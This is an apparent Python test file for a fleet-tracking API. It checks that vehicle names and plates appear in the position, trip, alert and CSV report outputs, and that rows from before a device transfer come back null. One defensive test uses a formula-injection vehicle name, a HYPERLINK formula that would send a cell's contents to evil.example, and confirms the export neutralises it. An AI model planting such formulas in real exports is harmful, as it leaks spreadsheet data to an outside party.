"""Outputs that name a vehicle by id carry its name (and, for maps and spreadsheets, its
plate), except rows of an earlier tenure, which carry null (issue 15, item 16)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import httpx
from sqlalchemy.ext.asyncio import AsyncSession

from milepost_common.domain.alerts.models import Alert
from milepost_common.domain.devices import tenure as device_tenure
from milepost_common.domain.devices.models import Device
from milepost_common.domain.organizations.models import Organization
from milepost_common.testing.factories import (
    make_alert,
    make_device,
    make_device_state,
    make_operator,
    make_position,
    make_stop,
    make_trip,
    principal_for,
)
from services.api.tests.api_support import Bearer, Team


async def history(session: AsyncSession, device: Device, start: datetime) -> Alert:
    """A trip, a stop and an alert of ``device`` in its current organization at ``start``."""
    ten, twenty = start + timedelta(minutes=10), start + timedelta(minutes=20)
    alert = await make_alert(session, device, start + timedelta(minutes=5))
    await make_trip(session, device, start, ten, distance_m=1000)
    await make_stop(session, device, ten, twenty, lat=52.6, lon=13.5, duration_s=600)
    await make_position(session, device, twenty)
    return alert


async def transfer(session: AsyncSession, device: Device, target: Organization) -> None:
    operator = principal_for(await make_operator(session))
    await device_tenure.transfer_device(session, operator, device, target)


def yesterday_at_eight() -> datetime:
    """A time whose day has a positions partition."""
    return datetime.now(UTC).replace(hour=8, minute=0, second=0, microsecond=0) - timedelta(days=1)


def day_of(moment: datetime) -> dict[str, str]:
    return {
        "from": moment.date().isoformat(),
        "to": (moment + timedelta(days=1)).date().isoformat(),
    }


class TestLatestPositions:
    async def test_json_and_geojson_carry_name_and_plate(
        self, client: httpx.AsyncClient, session: AsyncSession, team: Team, bearer: Bearer
    ) -> None:
        device = await make_device(session, team.org, name="Van 7", plate="B-MP 42")
        bare = await make_device(session, team.org, name="Bike 1")
        now = datetime.now(UTC).replace(microsecond=0)
        for vehicle, minutes in ((device, 2), (bare, 1)):
            at = now - timedelta(minutes=minutes)
            await make_device_state(
                session, vehicle, last_fix_time=at, last_lat=52.5, last_lon=13.4
            )

        plain = await client.get("/api/v1/positions/latest", headers=bearer(team.viewer))
        geo = await client.get(
            "/api/v1/positions/latest",
            headers={"Accept": "application/geo+json", **bearer(team.viewer)},
        )

        assert [
            (i["vehicle_id"], i["vehicle_name"], i["vehicle_plate"]) for i in plain.json()["items"]
        ] == [(str(device.id), "Van 7", "B-MP 42"), (str(bare.id), "Bike 1", None)]
        properties = [f["properties"] for f in geo.json()["features"]]
        assert [(p["vehicle_name"], p["vehicle_plate"]) for p in properties] == [
            ("Van 7", "B-MP 42"),
            ("Bike 1", None),
        ]


class TestTimeline:
    async def test_trips_stops_and_alerts_name_the_vehicle(
        self, client: httpx.AsyncClient, session: AsyncSession, team: Team, bearer: Bearer
    ) -> None:
        device = await make_device(session, team.org, name="Van 7")
        alert = await history(session, device, yesterday_at_eight())
        viewer = bearer(team.viewer)

        trips = await client.get("/api/v1/trips", headers=viewer)
        trip = await client.get(f"/api/v1/trips/{trips.json()['items'][0]['id']}", headers=viewer)
        stops = await client.get("/api/v1/stops", headers=viewer)
        alerts = await client.get("/api/v1/alerts", headers=viewer)
        acknowledged = await client.post(
            f"/api/v1/alerts/{alert.id}/acknowledge", headers=bearer(team.manager)
        )

        names = [
            trips.json()["items"][0]["vehicle_name"],
            trip.json()["vehicle_name"],
            stops.json()["items"][0]["vehicle_name"],
            alerts.json()["items"][0]["vehicle_name"],
            acknowledged.json()["vehicle_name"],
        ]
        assert names == ["Van 7"] * 5

    async def test_rows_left_behind_by_a_transfer_carry_null(
        self,
        client: httpx.AsyncClient,
        session: AsyncSession,
        team: Team,
        other_team: Team,
        bearer: Bearer,
    ) -> None:
        device = await make_device(session, team.org, name="Van 7", plate="B-MP 42")
        start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
        alert = await history(session, device, start)
        await transfer(session, device, other_team.org)
        device.name = "Their truck"
        session.add(device)
        await session.flush()
        viewer = bearer(team.viewer)

        trips = await client.get("/api/v1/trips", headers=viewer)
        trip = await client.get(f"/api/v1/trips/{trips.json()['items'][0]['id']}", headers=viewer)
        stops = await client.get("/api/v1/stops", headers=viewer)
        alerts = await client.get("/api/v1/alerts", headers=viewer)
        acknowledged = await client.post(
            f"/api/v1/alerts/{alert.id}/acknowledge", headers=bearer(team.manager)
        )
        summary = await client.get("/api/v1/reports/summary", params=day_of(start), headers=viewer)
        exported = await client.get(
            "/api/v1/reports/trips.csv", params=day_of(start), headers=viewer
        )

        names = [
            trips.json()["items"][0]["vehicle_name"],
            trip.json()["vehicle_name"],
            stops.json()["items"][0]["vehicle_name"],
            alerts.json()["items"][0]["vehicle_name"],
            acknowledged.json()["vehicle_name"],
            summary.json()["items"][0]["vehicle_name"],
            summary.json()["items"][0]["vehicle_plate"],
        ]
        assert names == [None] * 7
        (row,) = csv.DictReader(io.StringIO(exported.text))
        assert (row["vehicle_name"], row["vehicle_plate"]) == ("", "")
        assert "Their truck" not in trips.text + summary.text + exported.text

    async def test_after_coming_back_only_the_new_tenure_is_named(
        self,
        client: httpx.AsyncClient,
        session: AsyncSession,
        team: Team,
        other_team: Team,
        bearer: Bearer,
    ) -> None:
        device = await make_device(session, team.org, name="Van 7")
        first = datetime.now(UTC).replace(microsecond=0) - timedelta(days=3)
        await history(session, device, first)
        await transfer(session, device, other_team.org)
        await transfer(session, device, team.org)
        assert device.assigned_at is not None
        await history(session, device, device.assigned_at + timedelta(minutes=1))

        trips = await client.get("/api/v1/trips", headers=bearer(team.viewer))

        assert [t["vehicle_name"] for t in trips.json()["items"]] == [None, "Van 7"]


class TestReports:
    async def test_summary_rows_and_csv_name_the_vehicle(
        self, client: httpx.AsyncClient, session: AsyncSession, team: Team, bearer: Bearer
    ) -> None:
        device = await make_device(session, team.org, name="Van 7", plate="B-MP 42")
        start = yesterday_at_eight()
        await history(session, device, start)
        viewer = bearer(team.viewer)

        summary = await client.get("/api/v1/reports/summary", params=day_of(start), headers=viewer)
        summary_csv = await client.get(
            "/api/v1/reports/summary.csv", params=day_of(start), headers=viewer
        )
        trips_csv = await client.get(
            "/api/v1/reports/trips.csv", params=day_of(start), headers=viewer
        )

        (row,) = summary.json()["items"]
        assert (row["vehicle_name"], row["vehicle_plate"]) == ("Van 7", "B-MP 42")
        for exported in (summary_csv, trips_csv):
            (line,) = csv.DictReader(io.StringIO(exported.text))
            assert (line["vehicle_name"], line["vehicle_plate"]) == ("Van 7", "B-MP 42")

    async def test_a_name_a_spreadsheet_would_run_is_exported_as_text(
        self, client: httpx.AsyncClient, session: AsyncSession, team: Team, bearer: Bearer
    ) -> None:
        # Whoever opens the export in a spreadsheet is not always who named the vehicle.
        name = '=HYPERLINK("https://evil.example/?"&A1,"Van")'
        device = await make_device(session, team.org, name=name, plate="-1+2")
        start = yesterday_at_eight()
        await history(session, device, start)

        for report in ("summary.csv", "trips.csv"):
            exported = await client.get(
                f"/api/v1/reports/{report}", params=day_of(start), headers=bearer(team.viewer)
            )
            (line,) = csv.DictReader(io.StringIO(exported.text))
            assert (line["vehicle_name"], line["vehicle_plate"]) == ("'" + name, "'-1+2")
